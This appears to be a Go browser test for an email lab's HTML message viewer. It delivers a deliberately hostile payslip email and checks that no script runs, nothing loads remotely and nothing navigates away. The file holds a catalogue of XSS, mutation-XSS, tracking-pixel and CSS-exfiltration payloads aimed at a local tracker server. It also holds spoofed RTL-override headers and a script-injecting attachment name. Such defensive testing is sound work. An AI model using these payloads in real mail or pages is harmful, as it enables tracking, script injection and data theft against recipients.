package peer

import (
	"maps"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"example.org/exosh/internal/cmdlet/cmdlettest"
	"example.org/exosh/internal/directory"
	"example.org/exosh/internal/lab"
	"example.org/exosh/internal/lab/mailroom"
	"example.org/exosh/internal/mail"
	"example.org/exosh/internal/mail/box"
	"example.org/exosh/internal/org"
)

// hostile is what a message's HTML might try; TRACKER stands for a server that counts who asks.
const hostile = `<html><head><title>Payslip</title>
<base href="TRACKER/base/"><meta http-equiv="refresh" content="0;url=TRACKER/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="TRACKER/link.css"><link rel="prefetch" href="TRACKER/prefetch"><link rel="dns-prefetch" href="//tracker.example">
<style>@import "TRACKER/import.css"; body { background: url(TRACKER/style.png) } input[value^=a] { background: url(TRACKER/exfil?a) } @font-face { font-family: x; src: url(TRACKER/font) } p { font-family: x }</style>
<script src="TRACKER/script.js"></script></head>
<body background="TRACKER/body.png" onload="fetch('TRACKER/onload')">
<h1 style="color:#0b6b50">Your payslip</h1><p>Dear <b>Olivia</b>, here it is.</p>
<script>fetch('TRACKER/inline'); document.title = 'owned'; parent.document.title = 'owned'</script>
<img src="TRACKER/pixel.gif" width="1" height="1"><img src=x onerror="fetch('TRACKER/onerror')"><img srcset="TRACKER/srcset 1x" src="">
<svg onload="fetch('TRACKER/svg')"><script>fetch('TRACKER/svgscript')</script><image href="TRACKER/svgimage"/></svg>
<math><mtext></table></math><img src onerror=fetch('TRACKER/math')>
<iframe src="TRACKER/frame"></iframe><iframe srcdoc="<script>fetch('TRACKER/srcdoc')</script>"></iframe>
<object data="TRACKER/object"></object><embed src="TRACKER/embed"><video autoplay src="TRACKER/video" poster="TRACKER/poster"></video><audio autoplay src="TRACKER/audio"></audio>
<form id="f" action="TRACKER/form"><input name="p" value="a" autofocus onfocus="this.form.submit()"><button formaction="TRACKER/formaction">Sign in</button></form>
<a id="bad" href="javascript:fetch('TRACKER/javascript')">click</a> <a href="TRACKER/away" target="_top">away</a> <a ping="TRACKER/ping" href="data:text/html,<script>fetch('TRACKER/data')</script>">data</a>
<p style="background-image:url(TRACKER/attr.png); color: #a3261b">styled</p><p style="b\61ckground:u\72l(TRACKER/escaped.png)">escaped</p>
<table><tr><td background="TRACKER/td.png">cell</td></tr></table>
<img src="cid:logo@contoso" alt="logo"><details ontoggle="fetch('TRACKER/toggle')" open><summary>more</summary></details>
<noscript><p title="</noscript><img src=x onerror=fetch('TRACKER/mxss')>"></noscript><textarea></textarea><xmp></xmp>
<marquee onstart="fetch('TRACKER/marquee')">x</marquee><template><img src="TRACKER/template"></template>
</body></html>`

const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="

// A mailLab is a lab page with a message in olivia's mailbox, and a server that counts who asks it.
type mailLab struct {
	t       *testing.T
	page    *httptest.Server
	tracker *httptest.Server
	asked   atomic.Int64
	last    atomic.Value // path
	id      string
	raw     string
	room    *mailroom.Room
}

func newMailLab(t *testing.T) *mailLab {
	l := &mailLab{t: t}
	l.tracker = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		if q.URL.Path != "/favicon.ico" {
			l.asked.Add(1)
			l.last.Store(q.URL.Path)
		}
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(l.tracker.Close)
	w := cmdlettest.New(t)
	w.Now = time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
	l.room = &mailroom.Room{Store: w.Store, Tenant: w.Tenant, Organization: "Contoso"}
	l.page = httptest.NewServer(l.handler(&lab.Page{Organization: "Contoso", Inbox: &lab.Inbox{}, Mail: l.room}))
	t.Cleanup(l.page.Close)
	l.raw = strings.ReplaceAll(hostile, "TRACKER", l.tracker.URL)
	l.id = l.deliver(w, l.raw)
	return l
}

// handler serves the lab, and below /naked the same frame with the message's HTML as it came: then only the
// frame's policy is between the message and the reader.
func (l *mailLab) handler(page http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		if q.URL.Path != "/naked" {
			page.ServeHTTP(w, q)
			return
		}
		rec := httptest.NewRecorder()
		q.URL.Path = "/lab/mail/" + l.id + "/html"
		page.ServeHTTP(rec, q)
		maps.Copy(w.Header(), rec.Header())
		_, _ = w.Write([]byte(l.raw))
	})
}

func (l *mailLab) deliver(w *cmdlettest.World, html string) string {
	l.t.Helper()
	raw := "From: \"Payroll \u202egnp.exe\" <payroll@tailspin.example>\r\nTo: olivia@contoso.com\r\nSubject: =?utf-8?q?Payslip_=E2=80=AEfdp=2Eexe_=3Cscript=3Ealert(1)=3C/script=3E?=\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + strings.ReplaceAll(html, "\n", "\r\n") +
		"\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <logo@contoso>\r\nContent-Transfer-Encoding: base64\r\n\r\n" + pixel +
		"\r\n--b\r\nContent-Type: text/html; name=\"x<img src=x onerror=alert(1)>.html\"\r\nContent-Disposition: attachment\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n"
	m := &mail.Message{Subject: "Payslip \u202efdp.exe <script>alert(1)</script>", From: "payroll@tailspin.example", MessageID: "<1@tailspin.example>"}
	ctx := org.WithCaller(l.t.Context(), &org.Caller{Tenant: w.Tenant, Actor: "system", Cause: &org.Cause{Operation: "test", Silent: true}})
	err := w.Store.Update(ctx, func(tx org.Tx) error {
		x, err := mail.In(tx)
		if err != nil {
			return err
		}
		m.ID = org.ID{}
		if err := x.PutMessage(m, strings.NewReader(raw)); err != nil {
			return err
		}
		e, err := directory.Resolve(tx, "olivia@contoso.com", directory.LiveMailbox)
		if err != nil {
			return err
		}
		b, err := box.Open(tx, e, box.Primary)
		if err != nil {
			return err
		}
		if err := x.PutTrace(&mail.Trace{Message: m.ID, Recipient: "olivia@contoso.com", Sender: m.From, Subject: m.Subject, Size: m.Size, Received: m.Received, Status: mail.Delivered}); err != nil {
			return err
		}
		if err := x.PutEvent(&mail.Event{Message: m.ID, Recipient: "olivia@contoso.com", Time: m.Received, Name: "Deliver", Detail: "The message was successfully delivered to the folder: DefaultFolderType:Inbox"}); err != nil {
			return err
		}
		return x.PutItem(&mail.Item{Box: b.ID, Folder: b.Find(`\Inbox`).Number, Message: m.ID, Size: m.Size, Received: m.Received, For: "olivia@contoso.com"})
	})
	if err != nil {
		l.t.Fatal(err)
	}
	l.talk(m.ID, m.Received)
	return org.IDText(m.ID)
}

// talk records the conversation that brought the message, and one that was refused.
func (l *mailLab) talk(id org.ID, at time.Time) {
	client := netip.MustParseAddrPort("192.0.2.17:50122")
	say := func(lines ...string) (list []mail.Line) {
		for i, s := range lines {
			line := mail.Line{Time: at.Add(time.Duration(i) * 40 * time.Millisecond), Text: s[2:], From: strings.TrimSpace(s[:1])}
			list = append(list, line)
		}
		return list
	}
	l.room.Record(mail.Conversation{
		ID: org.ID{1}, Client: client, TLS: "TLS1.3, TLS_AES_128_GCM_SHA256", Hello: "printer<b>", User: "amara@contoso.com", Method: "LOGIN", Began: at, Ended: at.Add(time.Second), End: "quit",
		Messages: []org.ID{id},
		Lines: say("S 220 mail.contoso.com Microsoft ESMTP MAIL Service ready", "C EHLO printer", "S 250-mail.contoso.com Hello [192.0.2.17]", "S 250 SMTPUTF8", "C STARTTLS", "S 220 2.0.0 SMTP server ready",
			"  (TLS 1.3 began)", "C AUTH LOGIN", "S 334 VXNlcm5hbWU6", "C (user name)", "S 334 UGFzc3dvcmQ6", "C (password)", "S 235 2.7.0 Authentication successful",
			"C MAIL FROM:<amara@contoso.com>", "S 250 2.1.0 Sender OK", "C RCPT TO:<olivia@contoso.com>", "S 250 2.1.5 Recipient OK", "C DATA", "S 354 Start mail input; end with <CRLF>.<CRLF>", "  (5,120 bytes of a message)",
			"S 250 2.0.0 OK <1@contoso.com> [Hostname=mail.contoso.com]", "C QUIT", "S 221 2.0.0 Service closing transmission channel"),
	})
	refused := mail.Conversation{
		ID: org.ID{2}, Client: client, TLS: "TLS1.2, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", Hello: "scanner", User: "jonas@contoso.com", Method: "LOGIN", Began: at.Add(time.Minute), Ended: at.Add(61 * time.Second), End: "client went away",
		Lines: say("S 220 mail.contoso.com Microsoft ESMTP MAIL Service ready", "C EHLO scanner", "S 250 SMTPUTF8", "C AUTH LOGIN", "S 334 VXNlcm5hbWU6", "C (user name)", "S 334 UGFzc3dvcmQ6", "C (password)", "S 535 5.7.3 Authentication unsuccessful"),
	}
	refused.Lines[len(refused.Lines)-1].Refusal = "WrongCredentials"
	l.room.Record(refused)
}

func (l *mailLab) silent(what string) {
	l.t.Helper()
	if n := l.asked.Load(); n != 0 {
		l.t.Fatalf("%s: the message asked another server %d times, at last for %v", what, n, l.last.Load())
	}
}

// S-40: what a message holds is shown and does nothing: no script runs, nothing is loaded, nothing leads away.
func TestS40MailIsShownAndDoesNothing(t *testing.T) {
	t.Parallel()
	need(t, chromium, "--version")
	l := newMailLab(t)
	b := newTab(t)
	b.do(chromedp.Navigate(l.page.URL + "/lab/mail"))
	b.on("list")
	b.do(chromedp.Navigate(l.page.URL + "/lab/mail/" + l.id))
	b.on("message")
	l.still(b, "the page of the message")
	b.do(chromedp.Navigate(l.page.URL + "/lab/mail/" + l.id + "/html"))
	l.still(b, "the frame by itself")
	shown, err := chromedp.Run(b.ctx, chromedp.Evaluate[string](`document.body.innerText + "|" + document.querySelectorAll("img[src^='data:image/png']").length`))
	if err != nil || !strings.Contains(shown, "Dear Olivia, here it is.") || !strings.HasSuffix(shown, "|1") {
		t.Errorf("the frame shows %q, %v", shown, err)
	}
	// Even as it came, it could do nothing in the frame.
	b.do(chromedp.Navigate(l.page.URL + "/naked"))
	l.still(b, "the naked frame")
	b.do(chromedp.Navigate(l.page.URL + "/lab/connections"))
	b.on("connections")
	b.do(chromedp.Click("tr:nth-child(2) a"))
	b.on("connection")
	// The proof that the tracker counts.
	b.do(chromedp.Navigate(l.tracker.URL + "/control"))
	if l.asked.Load() == 0 {
		t.Error("the tracker counts nothing")
	}
}

// still holds that nothing happens in a page that was loaded, not even when its links are pressed.
func (l *mailLab) still(b *tab, what string) {
	l.t.Helper()
	before, err := chromedp.Run(b.ctx, chromedp.Evaluate[string]("location.href"))
	if err != nil {
		l.t.Fatal(err)
	}
	if _, err := chromedp.Run(b.ctx, chromedp.Evaluate[int](`document.querySelectorAll("main a[href^=javascript], #bad, details").forEach(x => x.click()) ?? 0`)); err != nil {
		l.t.Fatal(err)
	}
	b.do(chromedp.Sleep(300 * time.Millisecond))
	l.silent(what)
	after, err := chromedp.Run(b.ctx, chromedp.Evaluate[string](`location.href + " " + document.title`))
	if err != nil || !strings.HasPrefix(after, before+" ") || strings.Contains(after, "owned") {
		l.t.Errorf("%s: at %s, then %s, %v", what, before, after, err)
	}
}
